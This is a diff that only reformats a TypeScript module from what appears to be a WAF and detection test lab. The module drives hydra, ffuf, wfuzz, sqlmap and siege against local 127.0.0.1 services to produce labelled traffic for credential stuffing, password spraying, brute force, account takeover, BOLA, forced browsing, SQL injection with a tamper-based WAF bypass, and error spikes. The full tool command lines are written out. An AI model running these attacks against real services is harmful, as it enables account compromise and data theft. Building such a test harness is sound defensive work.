@@ -16,7 +16,13 @@ import { activity, benignAccounts, pause, type RunContext, tryLogin } from '../a
 import type { Lane, Ports } from '../gateways.ts';
 import type { LabelDraft } from '../labels.ts';
 import type { ProcessRegistry } from '../processes.ts';
-import { ATO_PASSWORDS, BRUTE_PASSWORDS, FORCED_BROWSING_PATHS, LEAKED_PASSWORDS, SPRAY_PASSWORDS } from './wordlists.ts';
+import {
+  ATO_PASSWORDS,
+  BRUTE_PASSWORDS,
+  FORCED_BROWSING_PATHS,
+  LEAKED_PASSWORDS,
+  SPRAY_PASSWORDS,
+} from './wordlists.ts';
 
 export interface ToolEnv {
   reg: ProcessRegistry;
@@ -62,7 +68,9 @@ interface RunResult {
 /** Compile the shim with gcc into the work directory. */
 export function buildShim(work: string, source: string): string {
   const out = join(work, 'srcbind.so');
-  execFileSync('/usr/bin/gcc', ['-shared', '-fPIC', '-O2', '-o', out, source, '-ldl'], { stdio: ['ignore', 'ignore', 'pipe'] });
+  execFileSync('/usr/bin/gcc', ['-shared', '-fPIC', '-O2', '-o', out, source, '-ldl'], {
+    stdio: ['ignore', 'ignore', 'pipe'],
+  });
   return out;
 }
 
@@ -92,7 +100,15 @@ function hydraEscape(s: string): string {
 async function runTool(
   env: ToolEnv,
   ctx: RunContext,
-  spec: { id: string; tool: string; lane: Lane; argv: string[]; pool?: string[]; timeoutS: number; note?: string },
+  spec: {
+    id: string;
+    tool: string;
+    lane: Lane;
+    argv: string[];
+    pool?: string[];
+    timeoutS: number;
+    note?: string;
+  },
 ): Promise<RunResult> {
   const dir = join(env.work, 'tools', spec.id);
   mkdirSync(dir, { recursive: true });
@@ -148,13 +164,18 @@ async function runTool(
 
 function fromConns(r: RunResult): { ips: Set<string>; first: number; last: number } {
   if (r.conns.length === 0) return { ips: new Set(), first: r.start, last: r.end };
-  return { ips: new Set(r.conns.map((c) => c.ip)), first: Math.min(...r.conns.map((c) => c.at)), last: Math.max(...r.conns.map((c) => c.at)) };
+  return {
+    ips: new Set(r.conns.map((c) => c.ip)),
+    first: Math.min(...r.conns.map((c) => c.at)),
+    last: Math.max(...r.conns.map((c) => c.at)),
+  };
 }
 
 /** "[8080][http-post-form] host: 127.0.0.1   login: bob   password: hunter2" lines of hydra's stdout. */
 export function hydraFound(stdout: string): { login: string; password: string }[] {
   const out: { login: string; password: string }[] = [];
-  for (const m of stdout.matchAll(/\]\s+host:\s+\S+\s+login:\s+(\S+)\s+password:\s+(.*)$/gm)) out.push({ login: m[1]!, password: m[2]!.trim() });
+  for (const m of stdout.matchAll(/\]\s+host:\s+\S+\s+login:\s+(\S+)\s+password:\s+(.*)$/gm))
+    out.push({ login: m[1]!, password: m[2]!.trim() });
   return out;
 }
 
@@ -201,12 +222,34 @@ const hydraFormStuffing: ToolAttack = {
       pool,
       timeoutS: 60,
       argv: [
-        'hydra', '-I', '-C', list(env, this.id, combos), '-t', '4', '-w', '10', '-s', String(env.ports.lanes[this.lane]),
-        '127.0.0.1', 'http-post-form', `/api/login:username=^USER^&password=^PASS^:g=:H=User-Agent\\: ${hydraEscape(ATTACK_UA)}:S=token`,
+        'hydra',
+        '-I',
+        '-C',
+        list(env, this.id, combos),
+        '-t',
+        '4',
+        '-w',
+        '10',
+        '-s',
+        String(env.ports.lanes[this.lane]),
+        '127.0.0.1',
+        'http-post-form',
+        `/api/login:username=^USER^&password=^PASS^:g=:H=User-Agent\\: ${hydraEscape(ATTACK_UA)}:S=token`,
       ],
     });
     const c = fromConns(r);
-    return [{ id: this.id, class: 'credential_stuffing', tool: toolName(env, 'hydra'), description: `hydra http-post-form replays ${combos.length} leaked username:password pairs (form body) from ${c.ips.size} addresses with a browser user agent, through the blocking WAF; none is valid here.`, ...c, users, routes: ['/api/login'], userAgents: [ATTACK_UA] }];
+    return [
+      {
+        id: this.id,
+        class: 'credential_stuffing',
+        tool: toolName(env, 'hydra'),
+        description: `hydra http-post-form replays ${combos.length} leaked username:password pairs (form body) from ${c.ips.size} addresses with a browser user agent, through the blocking WAF; none is valid here.`,
+        ...c,
+        users,
+        routes: ['/api/login'],
+        userAgents: [ATTACK_UA],
+      },
+    ];
   },
 };
 
@@ -217,7 +260,17 @@ const hydraBasicSpray: ToolAttack = {
   estimateMs: 10_000,
   async run(ctx, env) {
     const benignStaff = new Set(ctx.world.staff.filter((s) => s !== ctx.world.basicBruteVictim).slice(0, 6));
-    const users = [...ctx.world.staff.filter((s) => !benignStaff.has(s) && s !== ctx.world.basicBruteVictim).map((s) => s.username), 'admin', 'reports', 'backup', 'finance', 'test', 'helpdesk'];
+    const users = [
+      ...ctx.world.staff
+        .filter((s) => !benignStaff.has(s) && s !== ctx.world.basicBruteVictim)
+        .map((s) => s.username),
+      'admin',
+      'reports',
+      'backup',
+      'finance',
+      'test',
+      'helpdesk',
+    ];
     const slow = env.durationMs >= 8 * 60_000;
     const r = await runTool(env, ctx, {
       id: this.id,
@@ -226,11 +279,33 @@ const hydraBasicSpray: ToolAttack = {
       pool: ['127.66.2.10'],
       timeoutS: slow ? 150 : 60,
       argv: [
-        'hydra', '-I', '-L', list(env, `${this.id}-users`, users), '-P', list(env, `${this.id}-passwords`, SPRAY_PASSWORDS), '-u',
-        ...(slow ? ['-c', '1'] : ['-t', '2']), '-s', String(env.ports.lanes[this.lane]), '127.0.0.1', 'http-get', '/basic/reports',
+        'hydra',
+        '-I',
+        '-L',
+        list(env, `${this.id}-users`, users),
+        '-P',
+        list(env, `${this.id}-passwords`, SPRAY_PASSWORDS),
+        '-u',
+        ...(slow ? ['-c', '1'] : ['-t', '2']),
+        '-s',
+        String(env.ports.lanes[this.lane]),
+        '127.0.0.1',
+        'http-get',
+        '/basic/reports',
       ],
     });
-    return [{ id: this.id, class: 'password_spraying', tool: toolName(env, 'hydra'), description: `hydra http-get sprays ${SPRAY_PASSWORDS.length} common passwords over ${users.length} basic-auth user names (each password across all users in turn), through the detection-only WAF lane.`, ...fromConns(r), users, routes: ['/basic/reports'], userAgents: ['Mozilla/4.0 (Hydra)'] }];
+    return [
+      {
+        id: this.id,
+        class: 'password_spraying',
+        tool: toolName(env, 'hydra'),
+        description: `hydra http-get sprays ${SPRAY_PASSWORDS.length} common passwords over ${users.length} basic-auth user names (each password across all users in turn), through the detection-only WAF lane.`,
+        ...fromConns(r),
+        users,
+        routes: ['/basic/reports'],
+        userAgents: ['Mozilla/4.0 (Hydra)'],
+      },
+    ];
   },
 };
 
@@ -247,9 +322,34 @@ const hydraBasicBrute: ToolAttack = {
       lane: this.lane,
       pool: ['127.66.3.10'],
       timeoutS: 60,
-      argv: ['hydra', '-I', '-l', victim.username, '-P', list(env, this.id, BRUTE_PASSWORDS), '-t', '4', '-s', String(env.ports.lanes[this.lane]), '127.0.0.1', 'http-get', '/basic/reports'],
+      argv: [
+        'hydra',
+        '-I',
+        '-l',
+        victim.username,
+        '-P',
+        list(env, this.id, BRUTE_PASSWORDS),
+        '-t',
+        '4',
+        '-s',
+        String(env.ports.lanes[this.lane]),
+        '127.0.0.1',
+        'http-get',
+        '/basic/reports',
+      ],
     });
-    return [{ id: this.id, class: 'brute_force', tool: toolName(env, 'hydra'), description: `hydra http-get tries ${BRUTE_PASSWORDS.length} passwords on the basic-auth account ${victim.username} through HAProxy; the password is not on the list.`, ...fromConns(r), users: [victim.username], routes: ['/basic/reports'], userAgents: ['Mozilla/4.0 (Hydra)'] }];
+    return [
+      {
+        id: this.id,
+        class: 'brute_force',
+        tool: toolName(env, 'hydra'),
+        description: `hydra http-get tries ${BRUTE_PASSWORDS.length} passwords on the basic-auth account ${victim.username} through HAProxy; the password is not on the list.`,
+        ...fromConns(r),
+        users: [victim.username],
+        routes: ['/basic/reports'],
+        userAgents: ['Mozilla/4.0 (Hydra)'],
+      },
+    ];
   },
 };
 
@@ -273,8 +373,22 @@ const hydraFormAto: ToolAttack = {
       pool: [ip],
       timeoutS: 60,
       argv: [
-        'hydra', '-I', '-l', victim.username, '-P', list(env, this.id, words), '-f', '-t', '2', '-w', '10', '-s', String(env.ports.lanes[this.lane]),
-        '127.0.0.1', 'http-post-form', `/api/login:username=^USER^&password=^PASS^:g=:H=User-Agent\\: ${hydraEscape(ATTACK_UA)}:S=token`,
+        'hydra',
+        '-I',
+        '-l',
+        victim.username,
+        '-P',
+        list(env, this.id, words),
+        '-f',
+        '-t',
+        '2',
+        '-w',
+        '10',
+        '-s',
+        String(env.ports.lanes[this.lane]),
+        '127.0.0.1',
+        'http-post-form',
+        `/api/login:username=^USER^&password=^PASS^:g=:H=User-Agent\\: ${hydraEscape(ATTACK_UA)}:S=token`,
       ],
     });
     const c = fromConns(r);
@@ -288,14 +402,35 @@ const hydraFormAto: ToolAttack = {
       const token = await tryLogin(ctx, who, 'form', victim.username, found.password);
       for (const what of ['addresses', 'orders'] as const) {
         await pause(ctx, rng.int(1500, 4000));
-        await ctx.client.send({ lane: this.lane, from: ip, path: `/api/users/${victim.id}/${what}`, activity: follow, route: `/api/users/{id}/${what}`, headers: { 'User-Agent': ATTACK_UA, ...(token ? { Authorization: `Bearer ${token}` } : {}) } });
+        await ctx.client.send({
+          lane: this.lane,
+          from: ip,
+          path: `/api/users/${victim.id}/${what}`,
+          activity: follow,
+          route: `/api/users/{id}/${what}`,
+          headers: { 'User-Agent': ATTACK_UA, ...(token ? { Authorization: `Bearer ${token}` } : {}) },
+        });
         routes.push(`/api/users/{id}/${what}`);
       }
     }
     for (const x of follow.ips) c.ips.add(x);
     if (follow.requests > 0) c.last = Math.max(c.last, follow.last);
-    const outcome = found === undefined ? 'hydra did not find the password (the run was cut short)' : `hydra found it, then the attacker logged in with it and read the account's addresses and orders`;
-    return [{ id: this.id, class: 'account_takeover', tool: toolName(env, 'hydra'), description: `hydra http-post-form guesses the password of ${victim.username} from a ${words.length}-word list (form body, browser user agent, blocking WAF lane); ${outcome}.`, ...c, users: [victim.username], routes, userAgents: [ATTACK_UA] }];
+    const outcome =
+      found === undefined
+        ? 'hydra did not find the password (the run was cut short)'
+        : `hydra found it, then the attacker logged in with it and read the account's addresses and orders`;
+    return [
+      {
+        id: this.id,
+        class: 'account_takeover',
+        tool: toolName(env, 'hydra'),
+        description: `hydra http-post-form guesses the password of ${victim.username} from a ${words.length}-word list (form body, browser user agent, blocking WAF lane); ${outcome}.`,
+        ...c,
+        users: [victim.username],
+        routes,
+        userAgents: [ATTACK_UA],
+      },
+    ];
   },
 };
 
@@ -308,10 +443,17 @@ const ffufBola: ToolAttack = {
     const ip = '127.66.5.10';
     const me = ctx.world.attackerAccount;
     const login = activity(ctx, `${this.id}-login`);
-    const token = await tryLogin(ctx, { lane: this.lane, from: ip, ua: ATTACK_UA, activity: login }, 'json', me.username, me.password);
+    const token = await tryLogin(
+      ctx,
+      { lane: this.lane, from: ip, ua: ATTACK_UA, activity: login },
+      'json',
+      me.username,
+      me.password,
+    );
     const ids: string[] = [];
     for (let i = 1; i <= 220; i++) ids.push(String(i));
-    for (let i = ctx.world.accounts.length - 10; i <= ctx.world.accounts.length + 20; i++) ids.push(String(i));
+    for (let i = ctx.world.accounts.length - 10; i <= ctx.world.accounts.length + 20; i++)
+      ids.push(String(i));
     const out = join(env.work, 'tools', this.id, 'ffuf.json');
     const r = await runTool(env, ctx, {
       id: this.id,
@@ -320,13 +462,47 @@ const ffufBola: ToolAttack = {
       timeoutS: 90,
       note: 'source address via X-Forwarded-For (nginx realip): ffuf is a Go binary the shim cannot reach',
       argv: [
-        'ffuf', '-s', '-u', `http://127.0.0.1:${env.ports.lanes[this.lane]}/api/users/FUZZ/addresses`, '-w', list(env, this.id, ids),
-        '-H', `User-Agent: ${ATTACK_UA}`, '-H', `Authorization: Bearer ${token ?? 'none'}`, '-H', `X-Forwarded-For: ${ip}`,
-        '-mc', 'all', '-t', '2', '-p', '0.05', '-maxtime', '80', '-o', out, '-of', 'json',
+        'ffuf',
+        '-s',
+        '-u',
+        `http://127.0.0.1:${env.ports.lanes[this.lane]}/api/users/FUZZ/addresses`,
+        '-w',
+        list(env, this.id, ids),
+        '-H',
+        `User-Agent: ${ATTACK_UA}`,
+        '-H',
+        `Authorization: Bearer ${token ?? 'none'}`,
+        '-H',
+        `X-Forwarded-For: ${ip}`,
+        '-mc',
+        'all',
+        '-t',
+        '2',
+        '-p',
+        '0.05',
+        '-maxtime',
+        '80',
+        '-o',
+        out,
+        '-of',
+        'json',
       ],
     });
     const first = login.requests > 0 ? login.first : r.start;
-    return [{ id: this.id, class: 'bola', tool: toolName(env, 'ffuf'), description: `ffuf requests /api/users/{id}/addresses for ${ids.length} ids with the attacker's own valid session (browser user agent, blocking WAF lane): the API answers 403 for other users' ids and 404 past the last one.`, ips: new Set([ip]), first, last: r.end, users: [me.username], routes: ['/api/users/{id}/addresses'], userAgents: [ATTACK_UA] }];
+    return [
+      {
+        id: this.id,
+        class: 'bola',
+        tool: toolName(env, 'ffuf'),
+        description: `ffuf requests /api/users/{id}/addresses for ${ids.length} ids with the attacker's own valid session (browser user agent, blocking WAF lane): the API answers 403 for other users' ids and 404 past the last one.`,
+        ips: new Set([ip]),
+        first,
+        last: r.end,
+        users: [me.username],
+        routes: ['/api/users/{id}/addresses'],
+        userAgents: [ATTACK_UA],
+      },
+    ];
   },
 };
 
@@ -344,16 +520,48 @@ const wfuzzForcedBrowsing: ToolAttack = {
       lane: this.lane,
       pool: ['127.66.6.10'],
       timeoutS: 60,
-      argv: ['wfuzz', '-z', `file,${list(env, this.id, FORCED_BROWSING_PATHS)}`, '-s', '0.05', '-f', `${out},json`, `http://127.0.0.1:${env.ports.lanes[this.lane]}/FUZZ`],
+      argv: [
+        'wfuzz',
+        '-z',
+        `file,${list(env, this.id, FORCED_BROWSING_PATHS)}`,
+        '-s',
+        '0.05',
+        '-f',
+        `${out},json`,
+        `http://127.0.0.1:${env.ports.lanes[this.lane]}/FUZZ`,
+      ],
     });
-    return [{ id: this.id, class: 'forced_browsing', tool: toolName(env, 'wfuzz'), description: `wfuzz requests ${FORCED_BROWSING_PATHS.length} well-known paths (admin pages, backups, config files, framework endpoints) through the detection-only WAF lane.`, ...fromConns(r), routes: FORCED_BROWSING_PATHS.map((p) => `/${p}`), userAgents: [`Wfuzz/${env.versions.wfuzz ?? ''}`] }];
+    return [
+      {
+        id: this.id,
+        class: 'forced_browsing',
+        tool: toolName(env, 'wfuzz'),
+        description: `wfuzz requests ${FORCED_BROWSING_PATHS.length} well-known paths (admin pages, backups, config files, framework endpoints) through the detection-only WAF lane.`,
+        ...fromConns(r),
+        routes: FORCED_BROWSING_PATHS.map((p) => `/${p}`),
+        userAgents: [`Wfuzz/${env.versions.wfuzz ?? ''}`],
+      },
+    ];
   },
 };
 
 function sqlmapArgs(env: ToolEnv, id: string, key: string, extra: string[]): string[] {
   return [
-    'sqlmap', '-u', `http://127.0.0.1:${env.ports.lanes.waf}/api/products?page=1`, '-p', 'page', `--headers=X-API-Key: ${key}`,
-    '--batch', '--level', '1', '--risk', '1', '--flush-session', `--output-dir=${join(env.work, 'tools', id, 'sqlmap')}`, '--disable-coloring', ...extra,
+    'sqlmap',
+    '-u',
+    `http://127.0.0.1:${env.ports.lanes.waf}/api/products?page=1`,
+    '-p',
+    'page',
+    `--headers=X-API-Key: ${key}`,
+    '--batch',
+    '--level',
+    '1',
+    '--risk',
+    '1',
+    '--flush-session',
+    `--output-dir=${join(env.work, 'tools', id, 'sqlmap')}`,
+    '--disable-coloring',
+    ...extra,
   ];
 }
 
@@ -364,8 +572,26 @@ const sqlmapBlocked: ToolAttack = {
   estimateMs: 10_000,
   async run(ctx, env) {
     const key = ctx.world.apiClients.find((c) => c.name === 'tenant-trial')!.key;
-    const r = await runTool(env, ctx, { id: this.id, tool: 'sqlmap', lane: this.lane, pool: ['127.66.7.10'], timeoutS: 90, argv: sqlmapArgs(env, this.id, key, []) });
-    return [{ id: this.id, class: 'injection', tool: toolName(env, 'sqlmap'), description: 'sqlmap tests the page parameter of /api/products for SQL injection with its own user agent, through the blocking WAF: the CRS answers 403.', ...fromConns(r), apiKeys: [key], routes: ['/api/products'] }];
+    const r = await runTool(env, ctx, {
+      id: this.id,
+      tool: 'sqlmap',
+      lane: this.lane,
+      pool: ['127.66.7.10'],
+      timeoutS: 90,
+      argv: sqlmapArgs(env, this.id, key, []),
+    });
+    return [
+      {
+        id: this.id,
+        class: 'injection',
+        tool: toolName(env, 'sqlmap'),
+        description:
+          'sqlmap tests the page parameter of /api/products for SQL injection with its own user agent, through the blocking WAF: the CRS answers 403.',
+        ...fromConns(r),
+        apiKeys: [key],
+        routes: ['/api/products'],
+      },
+    ];
   },
 };
 
@@ -376,8 +602,26 @@ const sqlmapTamper: ToolAttack = {
   estimateMs: 10_000,
   async run(ctx, env) {
     const key = ctx.world.apiClients.find((c) => c.name === 'tenant-trial')!.key;
-    const r = await runTool(env, ctx, { id: this.id, tool: 'sqlmap', lane: this.lane, pool: ['127.66.8.10'], timeoutS: 90, argv: sqlmapArgs(env, this.id, key, ['--random-agent', '--tamper=space2comment']) });
-    return [{ id: this.id, class: 'waf_bypass', tool: toolName(env, 'sqlmap'), description: 'sqlmap again, with --random-agent and --tamper=space2comment, through the blocking WAF: most payloads get 403, some pass the CRS at paranoia level 1 and reach the API.', ...fromConns(r), apiKeys: [key], routes: ['/api/products'] }];
+    const r = await runTool(env, ctx, {
+      id: this.id,
+      tool: 'sqlmap',
+      lane: this.lane,
+      pool: ['127.66.8.10'],
+      timeoutS: 90,
+      argv: sqlmapArgs(env, this.id, key, ['--random-agent', '--tamper=space2comment']),
+    });
+    return [
+      {
+        id: this.id,
+        class: 'waf_bypass',
+        tool: toolName(env, 'sqlmap'),
+        description:
+          'sqlmap again, with --random-agent and --tamper=space2comment, through the blocking WAF: most payloads get 403, some pass the CRS at paranoia level 1 and reach the API.',
+        ...fromConns(r),
+        apiKeys: [key],
+        routes: ['/api/products'],
+      },
+    ];
   },
 };
 
@@ -388,7 +632,12 @@ const siegeSpike: ToolAttack = {
   estimateMs: 12_000,
   async run(ctx, env) {
     const base = `http://127.0.0.1:${env.ports.lanes[this.lane]}`;
-    const urls = [`${base}/api/fail?code=503`, `${base}/api/fail?code=503`, `${base}/api/fail?code=500`, `${base}/api/fail?code=503`];
+    const urls = [
+      `${base}/api/fail?code=503`,
+      `${base}/api/fail?code=503`,
+      `${base}/api/fail?code=500`,
+      `${base}/api/fail?code=503`,
+    ];
     const pool: string[] = [];
     for (let i = 0; i < 24; i++) pool.push(`127.68.0.${10 + i}`);
     const r = await runTool(env, ctx, {
@@ -397,9 +646,32 @@ const siegeSpike: ToolAttack = {
       lane: this.lane,
       pool,
       timeoutS: 60,
-      argv: ['siege', '-q', '-c', '8', '-r', '20', '-d', '0.4', '-f', list(env, this.id, urls), `--log=${join(env.work, 'tools', this.id, 'siege.log')}`],
+      argv: [
+        'siege',
+        '-q',
+        '-c',
+        '8',
+        '-r',
+        '20',
+        '-d',
+        '0.4',
+        '-f',
+        list(env, this.id, urls),
+        `--log=${join(env.work, 'tools', this.id, 'siege.log')}`,
+      ],
     });
-    return [{ id: this.id, class: 'server_error_spike', tool: toolName(env, 'siege'), description: 'siege sends 8 concurrent users × 20 requests to /api/fail (mostly 503, some 500) within seconds, from 24 addresses, through HAProxy.', ...fromConns(r), routes: ['/api/fail'], userAgents: [`Mozilla/5.0 (pc-x86_64-linux-gnu) Siege/${env.versions.siege ?? ''}`] }];
+    return [
+      {
+        id: this.id,
+        class: 'server_error_spike',
+        tool: toolName(env, 'siege'),
+        description:
+          'siege sends 8 concurrent users × 20 requests to /api/fail (mostly 503, some 500) within seconds, from 24 addresses, through HAProxy.',
+        ...fromConns(r),
+        routes: ['/api/fail'],
+        userAgents: [`Mozilla/5.0 (pc-x86_64-linux-gnu) Siege/${env.versions.siege ?? ''}`],
+      },
+    ];
   },
 };
 
@@ -414,4 +686,3 @@ export const TOOL_ATTACKS: readonly ToolAttack[] = [
   sqlmapTamper,
   siegeSpike,
 ];
-
